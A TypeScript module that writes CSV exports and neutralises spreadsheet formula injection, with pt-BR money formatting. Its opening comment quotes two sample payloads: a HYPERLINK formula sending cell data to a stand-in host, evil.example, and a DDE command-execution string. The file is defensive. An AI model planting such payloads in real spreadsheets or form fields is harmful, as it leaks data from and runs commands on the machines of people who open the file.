/**
 * Every CSV Drip writes goes through `writeCsv` (docs/csv-exports.md). A CSV is opened in a spreadsheet, and a
 * spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula: a customer name typed at checkout
 * (`=HYPERLINK("http://evil.example/?x="&A1,"x")`, `+cmd|' /C calc'!A0`) would run on the merchant's computer. So
 * text cells are neutralised (OWASP "CSV Injection"), and amounts are a cell type of their own that stays a number.
 */
import { stringify } from 'csv-stringify/sync';

/** An amount of integer centavos, written as reais with a comma ('-368,44'): a number for a pt-BR spreadsheet. */
export class CsvMoney {
  readonly centavos: bigint;
  constructor(centavos: number | bigint | string) {
    // BigInt refuses fractions and anything else: only an integer amount can become a number cell.
    this.centavos = BigInt(centavos);
  }
}

/** A cell: text (neutralised when it could be read as a formula), an amount, or empty. */
export type CsvCell = string | CsvMoney | null | undefined;

export const csvMoney = (centavos: number | bigint | string): CsvMoney => new CsvMoney(centavos);

/**
 * OWASP's triggers: `=`, `+`, `-`, `@` first, or a tab or carriage return first (a spreadsheet may drop them and
 * read what follows). A trigger behind other leading whitespace counts too, because LibreOffice's "trim spaces"
 * import option removes it before deciding that the cell is a formula.
 */
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@])/;

/**
 * A text cell that no spreadsheet reads as a formula: one starting with a trigger gets a leading single quote, the
 * prefix OWASP recommends (Excel and LibreOffice then show the text; the quote stays visible in the cell).
 */
export function neutraliseCsvText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

function moneyText(m: CsvMoney): string {
  const negative = m.centavos < 0n;
  const abs = negative ? -m.centavos : m.centavos;
  return `${negative ? '-' : ''}${abs / 100n},${String(abs % 100n).padStart(2, '0')}`;
}

/** What a cell is written as (before the CSV quoting): tests read the export's lines through it. */
export function cellText(cell: CsvCell): string {
  if (cell == null) return '';
  if (cell instanceof CsvMoney) return moneyText(cell);
  return neutraliseCsvText(cell);
}

export interface CsvOptions {
  /** The header line's labels; written when `header` is true. */
  columns: readonly string[];
  /** Write the header line (the first chunk of a streamed file). */
  header: boolean;
  /** Start with a UTF-8 byte order mark, so that Excel reads the accents (the first chunk of a file). */
  bom: boolean;
  /** `;` by default: the separator a pt-BR spreadsheet expects, since the comma is the decimal separator. */
  delimiter?: string;
}

/** Records (or a chunk of a streamed file) as CSV text, every cell through the rules above. */
export function writeCsv(records: readonly (readonly CsvCell[])[], options: CsvOptions): string {
  const columns = options.columns.map(neutraliseCsvText);
  return stringify(
    records.map((r) => r.map(cellText)),
    { delimiter: options.delimiter ?? ';', header: options.header, columns, bom: options.bom },
  );
}
